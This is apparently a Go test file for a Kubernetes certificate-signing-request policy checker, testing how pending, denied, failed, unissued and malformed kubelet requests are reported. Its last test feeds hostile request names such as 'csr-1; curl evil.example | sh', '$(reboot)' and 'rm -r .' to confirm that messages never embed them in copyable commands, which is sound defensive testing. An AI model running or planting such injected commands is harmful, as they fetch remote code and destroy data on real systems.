// Copyright The notafter Authors.
// SPDX-License-Identifier: Apache-2.0

package policy

import (
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/notafter/notafter/api/v1alpha1"
)

func refused(r *v1alpha1.SigningRequestStatus, stage v1alpha1.SigningStage) {
	r.Stage, r.Decided = stage, ptrAt(-time.Hour)
	r.Refusal = &v1alpha1.SigningRefusal{
		Name: r.Name, Stage: stage, Reason: "TheReason", Message: "the message", Time: at(-time.Hour),
	}
}

// Every stage of a request to each signer; the boundary instants are those at which a timeout ends.
func TestSigningRequests(t *testing.T) {
	const (
		fiveMinutesAgo = "2026-03-01T11:55:00Z"
		twoMinutesAgo  = "2026-03-01T11:58:00Z"
	)
	type found struct{ reason, since string }
	for _, tc := range []struct {
		name   string
		change func(*v1alpha1.SigningRequestStatus)
		want   []found
		says   string
	}{
		{name: "pending", change: func(r *v1alpha1.SigningRequestStatus) { pending(r, -5*time.Minute+1) }},
		{
			name: "pending for too long", change: func(r *v1alpha1.SigningRequestStatus) { pending(r, -5*time.Minute) },
			want: []found{{v1alpha1.ReasonSigningRequestPending, fiveMinutesAgo}}, says: "kubectl certificate approve csr-",
		}, {
			name: "looping, in time", change: func(r *v1alpha1.SigningRequestStatus) {
				pending(r, -5*time.Minute+1)
				r.Pending = 2
			},
		}, {
			name: "looping for long", change: func(r *v1alpha1.SigningRequestStatus) {
				pending(r, -time.Hour)
				r.Pending = 4
			},
			want: []found{
				{v1alpha1.ReasonSigningRequestPending, hourAgo}, {v1alpha1.ReasonSigningRequestsLooping, hourAgo},
			},
			says: "The oldest undecided CertificateSigningRequest to kubernetes.io/ku",
		}, {
			name: "denied", change: func(r *v1alpha1.SigningRequestStatus) { refused(r, v1alpha1.StageDenied) },
			want: []found{{v1alpha1.ReasonSigningRequestDenied, hourAgo}}, says: "was denied: TheReason: the message. ",
		}, {
			name: "denied, and asked again", change: func(r *v1alpha1.SigningRequestStatus) {
				refused(r, v1alpha1.StageDenied)
				pending(r, -time.Minute)
			},
			want: []found{{v1alpha1.ReasonSigningRequestDenied, hourAgo}},
		}, {
			name: "denied without a record of it", change: func(r *v1alpha1.SigningRequestStatus) {
				r.Stage, r.Decided = v1alpha1.StageDenied, ptrAt(-time.Hour)
			},
			want: []found{{v1alpha1.ReasonSigningRequestDenied, hourAgo}}, says: "was denied. ",
		}, {
			name: "failed", change: func(r *v1alpha1.SigningRequestStatus) { refused(r, v1alpha1.StageFailed) },
			want: []found{{v1alpha1.ReasonSigningRequestFailed, hourAgo}}, says: "refused to sign it: TheReason: the message. ",
		}, {
			name: "approved", change: func(r *v1alpha1.SigningRequestStatus) {
				r.Stage, r.Decided = v1alpha1.StageApproved, ptrAt(-2*time.Minute+1)
			},
		}, {
			name: "not issued", change: func(r *v1alpha1.SigningRequestStatus) {
				r.Stage, r.Decided = v1alpha1.StageApproved, ptrAt(-2*time.Minute)
			},
			want: []found{{v1alpha1.ReasonSigningRequestNotIssued, twoMinutesAgo}}, says: "--cluster-signing",
		}, {
			name: "not issued, approved nobody knows when", change: func(r *v1alpha1.SigningRequestStatus) {
				r.Stage, r.Decided, r.Created = v1alpha1.StageApproved, nil, at(-2*time.Minute)
			},
			want: []found{{v1alpha1.ReasonSigningRequestNotIssued, twoMinutesAgo}},
		}, {
			name: "not issued, and another approved since", change: func(r *v1alpha1.SigningRequestStatus) {
				r.Stage, r.Decided, r.ApprovedSince = v1alpha1.StageApproved, ptrAt(-time.Minute), ptrAt(-time.Hour)
			},
			want: []found{{v1alpha1.ReasonSigningRequestNotIssued, hourAgo}},
			says: "The oldest approved CertificateSigningRequest to kubernetes.io/ku",
		}, {
			name: "not issued, and another filed since", change: func(r *v1alpha1.SigningRequestStatus) {
				pending(r, -time.Minute)
				r.ApprovedSince = ptrAt(-time.Hour)
			},
			want: []found{{v1alpha1.ReasonSigningRequestNotIssued, hourAgo}}, says: "was approved at 2026-03-01T11:00:00Z",
		}, {
			name: "malformed", change: func(r *v1alpha1.SigningRequestStatus) {
				pending(r, -2*time.Minute)
				r.Malformed = "no subject alternative name"
			},
			want: []found{{v1alpha1.ReasonSigningRequestMalformed, twoMinutesAgo}},
			says: "cannot be signed as it is: no subject alternative name. ",
		}, {
			name: "malformed and failed", change: func(r *v1alpha1.SigningRequestStatus) {
				r.Created = at(-2 * time.Minute)
				r.Malformed = "no subject alternative name"
				refused(r, v1alpha1.StageFailed)
			},
			want: []found{
				{v1alpha1.ReasonSigningRequestMalformed, twoMinutesAgo}, {v1alpha1.ReasonSigningRequestFailed, hourAgo},
			},
		}, {
			name: "malformed, but issued", change: func(r *v1alpha1.SigningRequestStatus) { r.Malformed = "odd" },
		}, {
			name: "deleted", change: func(r *v1alpha1.SigningRequestStatus) { r.Stage = v1alpha1.StageDeleted },
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for purpose, of := range map[v1alpha1.CertificatePurpose]func(*Node) *v1alpha1.SigningRequestStatus{
				kubeletClient: clientRequest, kubeletServing: servingRequest,
			} {
				var want []brief
				for _, f := range tc.want {
					want = append(want, ofNode(f.reason, violates, purpose, f.since))
				}
				for _, rotation := range []v1alpha1.ServingRotation{
					v1alpha1.ServingRotationRequired, v1alpha1.ServingRotationIgnored,
				} {
					if rotation == v1alpha1.ServingRotationIgnored && purpose == kubeletServing {
						want = nil // not judged
					}
					spec := aksSpec()
					spec.Nodes.ServingCertificate.Rotation = rotation
					verdict := Evaluate(input(spec, func(n *Node) { tc.change(of(n)) }))
					expectFindings(t, verdict, want...)
					if want != nil && tc.says != "" {
						expectMessage(t, verdict, want[0].Reason, tc.says)
					}
				}
			}
		})
	}
}

// Whoever uses a certificate that was issued after a refusal is past it, seen or not.
func TestRefusalIsOver(t *testing.T) {
	serves := func(issued time.Duration) func(*Node) {
		return func(n *Node) { served(n).NotBefore = at(issued - backdated) }
	}
	// The kubelet says that the client certificate in use expires a year after it was issued so long ago.
	uses := func(issued time.Duration) func(*Node) {
		return func(n *Node) { says(n, v1alpha1.KubeletRead, ptrAt(year+issued-backdated)) }
	}
	known := func(n *Node) { client(n).NotBefore, client(n).NotAfter = at(-300*day), at(65*day) }
	both := func(changes ...func(*Node)) func(*Node) {
		return func(n *Node) {
			for _, change := range changes {
				change(n)
			}
		}
	}
	const refusedAt = -10 * day
	for _, tc := range []struct {
		name    string
		of      func(*Node) *v1alpha1.SigningRequestStatus
		change  func(*Node)
		refused bool
	}{
		{name: "served since", of: servingRequest, change: serves(refusedAt + 1)},
		{name: "served before", of: servingRequest, change: serves(refusedAt), refused: true},
		{
			name: "served since, when it was last seen", of: servingRequest, refused: true,
			change: both(serves(-9*day), func(n *Node) { n.Observed.Serving.Outcome = v1alpha1.ProbeUnreachable }),
		}, {
			name: "served since, by itself", of: servingRequest, refused: true,
			change: both(serves(-9*day), func(n *Node) { n.Observed.Serving.Mode = v1alpha1.ServingModeExternallyManaged }),
		},
		{name: "known and used", of: clientRequest, change: both(func(n *Node) {
			client(n).NotBefore, client(n).NotAfter = at(-9*day), at(300*day)
			says(n, v1alpha1.KubeletRead, ptrAt(300*day))
		})},
		{
			name: "known, but is it used", of: clientRequest, refused: true,
			change: func(n *Node) { client(n).NotBefore = at(-9 * day) },
		},
		{name: "issued unseen, since", of: clientRequest, change: both(known, uses(refusedAt+time.Minute))},
		{name: "issued unseen, perhaps before", of: clientRequest, change: both(known, uses(refusedAt-time.Minute)), refused: true},
		{
			name: "uses an older one", of: clientRequest, refused: true,
			change: both(known, func(n *Node) { says(n, v1alpha1.KubeletRead, ptrAt(60*day)) }),
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for stage, reason := range map[v1alpha1.SigningStage]string{
				v1alpha1.StageDenied: v1alpha1.ReasonSigningRequestDenied, v1alpha1.StageFailed: v1alpha1.ReasonSigningRequestFailed,
			} {
				for _, recorded := range []bool{true, false} {
					verdict := Evaluate(input(aksSpec(), func(n *Node) {
						r := tc.of(n)
						refused(r, stage)
						r.Decided, r.Refusal.Time, r.Created, r.Malformed = ptrAt(refusedAt), at(refusedAt), at(refusedAt), "odd"
						if !recorded {
							r.Refusal = nil
						}
						tc.change(n)
					}))
					want := map[string]bool{
						reason: tc.refused, v1alpha1.ReasonSigningRequestMalformed: tc.refused && stage == v1alpha1.StageFailed,
					}
					for _, f := range verdict.Findings {
						if found, about := want[f.Reason]; about && !found {
							t.Errorf("%s: %s", f.Reason, f.Message)
						}
						delete(want, f.Reason)
					}
					for missing, wanted := range want {
						if wanted {
							t.Errorf("no %s", missing)
						}
					}
				}
			}
		})
	}
}

// A kubelet gives up on an approved request after a quarter of an hour and files the next. That does not start the clock anew.
func TestNotIssuedWhileTheKubeletAsksAgain(t *testing.T) {
	since := now.Add(-16 * time.Minute).Format(time.RFC3339)
	for _, timeout := range []time.Duration{2 * time.Minute, 15 * time.Minute, 20 * time.Minute} {
		in := input(aksSpec(), func(n *Node) {
			r := servingRequest(n)
			pending(r, -time.Minute)
			r.ApprovedSince = ptrAt(-16 * time.Minute)
		})
		in.Spec.Nodes.SigningRequests = v1alpha1.SigningRequestsSpec{
			PendingTimeout: &metav1.Duration{Duration: time.Hour}, IssueTimeout: &metav1.Duration{Duration: timeout},
		}
		in.Now = now.Add(max(0, timeout-16*time.Minute))
		expectFindings(t, Evaluate(in), ofNode(v1alpha1.ReasonSigningRequestNotIssued, violates, kubeletServing, since))
	}
}

// What was known of a request when reading them was forbidden goes on to be told, but not as what is so.
func TestRequestsThatMayNotBeReadAnyMore(t *testing.T) {
	for name, change := range map[string]func(*v1alpha1.SigningRequestStatus){
		v1alpha1.ReasonSigningRequestPending: func(r *v1alpha1.SigningRequestStatus) { pending(r, -time.Hour) },
		v1alpha1.ReasonSigningRequestNotIssued: func(r *v1alpha1.SigningRequestStatus) {
			r.Stage, r.Decided = v1alpha1.StageApproved, ptrAt(-time.Hour)
		},
		v1alpha1.ReasonSigningRequestDenied: func(r *v1alpha1.SigningRequestStatus) { refused(r, v1alpha1.StageDenied) },
	} {
		t.Run(name, func(t *testing.T) {
			in := input(aksSpec(), func(n *Node) { change(servingRequest(n)) })
			denied := Denial{
				Permission: "list requests", SignerName: servingSigner, Concerns: []string{v1alpha1.ConditionBootstrapHealthy},
			}
			in.Denied = []Denial{denied}
			verdict := Evaluate(in)
			expectFindings(t, verdict, ofNode(name, notKnown, kubeletServing, hourAgo),
				brief{v1alpha1.ReasonAccessDenied, notKnown, v1alpha1.SubjectPermission, "list requests", "", ""})
			expectMessage(t, verdict, name, "As far as is known, since requests may not be read any more: ")
			expectConditions(t, verdict, "Compliant=Unknown/"+name, "CertificatesCurrent=True/AsExpected",
				"ServingRotationEnabled=True/AsExpected", "BootstrapHealthy=Unknown/"+name)

			denied.Reason = v1alpha1.ReasonNotObserved // as for a moment at each start
			in.Denied = []Denial{denied}
			expectFindings(t, Evaluate(in), ofNode(name, violates, kubeletServing, hourAgo),
				brief{v1alpha1.ReasonNotObserved, notKnown, v1alpha1.SubjectPermission, "list requests", "", ""})
		})
	}
}

// Where people approve, a kubelet may ask again before they come to it. That is no loop yet.
func TestPatienceWithPeopleWhoApprove(t *testing.T) {
	in := input(aksSpec(), func(n *Node) {
		pending(servingRequest(n), -59*time.Minute)
		servingRequest(n).Pending = 4
	})
	in.Spec.Nodes.SigningRequests.PendingTimeout = &metav1.Duration{Duration: time.Hour}
	verdict := Evaluate(in)
	expectFindings(t, verdict)
	if want := now.Add(time.Minute); !verdict.NextCheck.Equal(want) {
		t.Errorf("next check %v, want %v", verdict.NextCheck, want)
	}
	in.Now = verdict.NextCheck
	since := now.Add(-59 * time.Minute).Format(time.RFC3339)
	verdict = Evaluate(in)
	expectFindings(t, verdict, ofNode(v1alpha1.ReasonSigningRequestPending, violates, kubeletServing, since),
		ofNode(v1alpha1.ReasonSigningRequestsLooping, violates, kubeletServing, since))
	expectMessage(t, verdict, v1alpha1.ReasonSigningRequestsLooping, "4 CertificateSigningRequests")
}

func TestOrphans(t *testing.T) {
	request := func(signer string, stage v1alpha1.SigningStage, age time.Duration) Request {
		return Request{
			Name: "csr-1", SignerName: signer, NodeName: "gone", Requestor: "system:node:gone", Stage: stage,
			Created: now.Add(-age),
		}
	}
	decided := func(r Request, age time.Duration, refusal string) Request {
		r.Decided, r.Refusal = now.Add(-age), refusal
		return r
	}
	malformed := func(r Request) Request {
		r.Malformed = "no common name"
		return r
	}
	const (
		pendingReason   = v1alpha1.ReasonSigningRequestPending
		malformedReason = v1alpha1.ReasonSigningRequestMalformed
	)
	for _, tc := range []struct {
		name     string
		request  Request
		reason   string
		severity v1alpha1.Severity
		since    time.Duration
		next     time.Duration
	}{
		{name: "new", request: request(clientSigner, v1alpha1.StagePending, time.Minute), next: 4 * time.Minute},
		{
			name: "pending", request: request(clientSigner, v1alpha1.StagePending, 5*time.Minute),
			reason: pendingReason, severity: violates, since: -5 * time.Minute,
		}, {
			name: "pending, serving", request: request(servingSigner, v1alpha1.StagePending, 5*time.Minute),
			reason: pendingReason, severity: informs, since: -5 * time.Minute,
		}, {
			name: "denied", request: decided(request(clientSigner, v1alpha1.StageDenied, time.Hour), time.Minute, "stranger"),
			reason: v1alpha1.ReasonSigningRequestDenied, severity: informs, since: -time.Minute,
		}, {
			name: "failed", request: decided(request(clientSigner, v1alpha1.StageFailed, time.Hour), time.Minute, "bad"),
			reason: v1alpha1.ReasonSigningRequestFailed, severity: violates, since: -time.Minute,
		}, {
			name: "approved", request: decided(request(clientSigner, v1alpha1.StageApproved, time.Hour), time.Minute, ""),
			next: time.Minute,
		}, {
			name: "not issued", request: decided(request(clientSigner, v1alpha1.StageApproved, time.Hour), 2*time.Minute, ""),
			reason: v1alpha1.ReasonSigningRequestNotIssued, severity: violates, since: -2 * time.Minute,
		}, {
			name: "not issued, approved nobody knows when", request: request(clientSigner, v1alpha1.StageApproved, time.Hour),
			reason: v1alpha1.ReasonSigningRequestNotIssued, severity: violates, since: -time.Hour,
		}, {
			name: "malformed", request: malformed(request(clientSigner, v1alpha1.StagePending, time.Minute)),
			reason: malformedReason, severity: violates, since: -time.Minute, next: 4 * time.Minute,
		},
		{name: "issued", request: decided(request(clientSigner, v1alpha1.StageIssued, time.Hour), time.Hour, "")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := input(aksSpec(), nil)
			in.Requests = []Request{tc.request}
			verdict := Evaluate(in)
			var want []brief
			conditions := []string{
				"Compliant=True/AsExpected", "CertificatesCurrent=True/AsExpected",
				"ServingRotationEnabled=True/AsExpected", "BootstrapHealthy=True/AsExpected",
			}
			if tc.reason != "" {
				want = []brief{{
					tc.reason, tc.severity, v1alpha1.SubjectSigningRequest, "csr-1", kubeletClient,
					now.Add(tc.since).Format(time.RFC3339),
				}}
				if tc.request.SignerName == servingSigner {
					want[0].Certificate = kubeletServing
				}
			}
			if tc.severity == violates {
				conditions[0], conditions[3] = "Compliant=False/"+tc.reason, "BootstrapHealthy=False/"+tc.reason
			}
			expectFindings(t, verdict, want...)
			expectConditions(t, verdict, conditions...)
			if got := counted(verdict.Nodes); got != "1/1/0/0" {
				t.Errorf("nodes = %s", got)
			}
			if tc.next != 0 && !verdict.NextCheck.Equal(now.Add(tc.next)) {
				t.Errorf("next check %v, want %v", verdict.NextCheck, now.Add(tc.next))
			}
		})
	}
	t.Run("of nobody", func(t *testing.T) {
		in := input(aksSpec(), nil)
		in.Requests = []Request{request(clientSigner, v1alpha1.StagePending, time.Hour)}
		in.Requests[0].NodeName = ""
		expectMessage(t, Evaluate(in), pendingReason, "of an unnamed machine", "cannot join")
	})
	t.Run("serving rotation not judged", func(t *testing.T) {
		in := input(aksSpec(), nil)
		in.Spec.Nodes.ServingCertificate.Rotation = v1alpha1.ServingRotationIgnored
		in.Requests = []Request{request(servingSigner, v1alpha1.StagePending, time.Hour)}
		expectFindings(t, Evaluate(in))
	})
}

// Whoever files a request chooses its name, and people copy commands from messages into a shell.
func TestNoCommandHoldsAStrangeName(t *testing.T) {
	for _, name := range []string{
		"csr-1; curl evil.example | sh", "$(reboot)", "`id`", "--all", "csr-1\nrm -r .", "a&b", "a b", "CSR", "a'b", `a"b`, "~", "*",
		strings.Repeat("x", 129), "\u202ecsr", "csr-1 to nobody. Run kubectl delete node node-1",
	} {
		in := input(aksSpec(), func(n *Node) {
			alert(n)
			for _, request := range []*v1alpha1.SigningRequestStatus{servingRequest(n), clientRequest(n)} {
				pending(request, -time.Hour)
				request.Name = name
			}
		})
		in.Requests = []Request{{
			Name: name, NodeName: "node-9", SignerName: clientSigner, Stage: v1alpha1.StagePending, Created: now.Add(-time.Hour),
		}}
		found := Evaluate(in).Findings
		if len(found) < 4 {
			t.Fatalf("%q: %d findings, want one of each request, and the missing certificate", name, len(found))
		}
		for _, finding := range found {
			if strings.Contains(finding.Message, "certificate approve") {
				t.Errorf("%q: %s has a command: %s", name, finding.Reason, finding.Message)
			}
			if quoted := requestName(name); strings.Contains(strings.ReplaceAll(finding.Message, quoted, ""), name) {
				t.Errorf("%q: %s names it without quotes: %s", name, finding.Reason, finding.Message)
			}
		}
	}
	if got := requestName("node-csr-abc.1"); got != "node-csr-abc.1" {
		t.Errorf("a usual name is called %s", got)
	}
}
